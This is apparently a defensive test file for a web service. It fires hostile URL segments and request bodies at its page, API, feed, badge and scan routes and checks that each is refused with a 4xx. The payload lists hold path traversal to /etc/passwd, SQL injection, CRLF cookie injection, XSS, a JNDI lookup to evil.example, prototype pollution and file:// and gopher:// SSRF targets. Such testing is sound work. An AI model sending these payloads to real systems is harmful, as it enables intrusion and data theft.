/** What the open internet sends, to every kind of address: it is told what is wrong with it, never 5xx. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { askerOf, type Ask } from './ask.ts'
import { serverOf, tools } from './fleet.ts'
import { HOUR, NOW, openHarbour, type Harbour } from './harbour.ts'

let harbour: Harbour
let ask: Ask
const errors: unknown[] = []

before(async () => {
  harbour = await openHarbour({ onError: (error) => void errors.push(error) })
  ask = askerOf(harbour)
  await harbour.watch('tidewater/tides', [{ at: NOW - HOUR, server: serverOf(tools(2)) }])
})
after(() => harbour.close())

/** No name, no number, no id, and no word that any parameter knows. */
const WORDS: readonly string[] = [
  '%00',
  '%',
  '%E0%A4%A',
  '%C0%AE%C0%AE',
  '..%2f..%2fetc%2fpasswd',
  '%27%20or%201=1--',
  '__proto__',
  'toString()',
  '%F0%9F%A6%86',
  'a'.repeat(4_000),
  '%0d%0aset-cookie:a=b',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '${jndi:ldap://evil.example}',
  '-1',
  '1e999',
  '*',
]

const PLACES: Readonly<Record<string, readonly ((word: string) => string)[]>> = {
  page: [
    (word) => `/servers/${word}/tides`,
    (word) => `/servers/tidewater/${word}`,
    (word) => `/servers?after=${word}`,
    (word) => `/servers?order=${word}`,
    (word) => `/runs/${word}`,
    (word) => `/uk/servers/tidewater/${word}`,
  ],
  API: [
    (word) => `/api/v1/servers/${word}/tides`,
    (word) => `/api/v1/servers?after=${word}`,
    (word) => `/api/v1/runs/${word}`,
    (word) => `/api/v1/changes?after=${word}`,
    (word) => `/log/tile/0/${word}`,
  ],
  feed: [
    (word) => `/feed.atom?before=${word}`,
    (word) => `/servers/feed.json?before=${word}`,
    (word) => `/servers/${word}/tides/feed.atom`,
    (word) => `/servers/tidewater/${word}/feed.json`,
  ],
  badge: [
    (word) => `/badge/${word}/tides.svg`,
    (word) => `/badge/tidewater/${word}.svg`,
    (word) => `/badge/tidewater/${word}.json`,
    (word) => `/badge/tidewater/tides.${word}`,
  ],
  scan: [(word) => `/scan/${word}`, (word) => `/api/v1/scans/${word}`],
}

const FORM = 'application/x-www-form-urlencoded'
const JSON_TYPE = 'application/json'

/** Bodies that ask for no scan, each with its type. */
const BODIES: readonly (readonly [type: string, body: string])[] = [
  [FORM, ''],
  [FORM, 'target'],
  [FORM, 'target=%'],
  [FORM, `target=${'x'.repeat(20_000)}`],
  [FORM, 'target=http%3A%2F%2Fuser%3Apass%40a.example'],
  [JSON_TYPE, ''],
  [JSON_TYPE, '{'],
  [JSON_TYPE, 'null'],
  [JSON_TYPE, '[]'],
  [JSON_TYPE, '"a.example"'],
  [JSON_TYPE, '{"target":{}}'],
  [JSON_TYPE, '{"target":"\\u0000"}'],
  [JSON_TYPE, '{"target":"file:///etc/passwd"}'],
  [JSON_TYPE, '{"target":"gopher://a.example/"}'],
  [JSON_TYPE, '{"__proto__":{"target":"a.example"}}'],
  [JSON_TYPE, '['.repeat(10_000)],
  ['text/plain', 'target=a.example'],
  ['multipart/form-data; boundary=x', '--x'],
  ['', 'target=a.example'],
]

test('hostile words in an address are refused', async () => {
  const sent = new Set<string>()
  for (const [kind, places] of Object.entries(PLACES))
    for (const place of places)
      for (const word of WORDS) {
        const path = place(word)
        const { status, text, headers } = await ask(path)
        const what = `${status} for the ${kind} ${path.slice(0, 100)}`
        assert.ok(status >= 400 && status < 500, what)
        assert.doesNotMatch(text, /<script>alert/, what)
        assert.equal(headers.get('set-cookie'), null, what)
        sent.add(path)
      }
  assert.equal(sent.size, WORDS.length * Object.values(PLACES).flat().length, 'each another one')
  assert.deepEqual(errors, [], 'nothing of it is our fault')
})

test('hostile bodies are refused', async () => {
  for (const path of ['/scan', '/api/v1/scans'])
    for (const [type, body] of BODIES) {
      const { status } = await ask(path, {
        method: 'POST',
        headers: { 'content-type': type, 'sec-fetch-site': 'same-origin' },
        body,
      })
      const what = `${status} for ${type} ${body.slice(0, 60)} at ${path}`
      assert.ok(status >= 400 && status < 500, what)
    }
  assert.deepEqual(errors, [], 'nothing of it is our fault')
})

test('methods that nobody needs are refused everywhere', async () => {
  for (const path of [
    '/',
    '/servers/tidewater/tides',
    '/feed.atom',
    '/badge/tidewater/tides.svg',
    '/api/v1/servers',
  ])
    for (const method of ['PUT', 'PATCH', 'DELETE', 'PROPFIND']) {
      const { status, headers } = await ask(path, { method })
      assert.equal(status, 405, `${method} ${path}`)
      assert.match(headers.get('allow') ?? '', /\bGET\b/)
    }
})
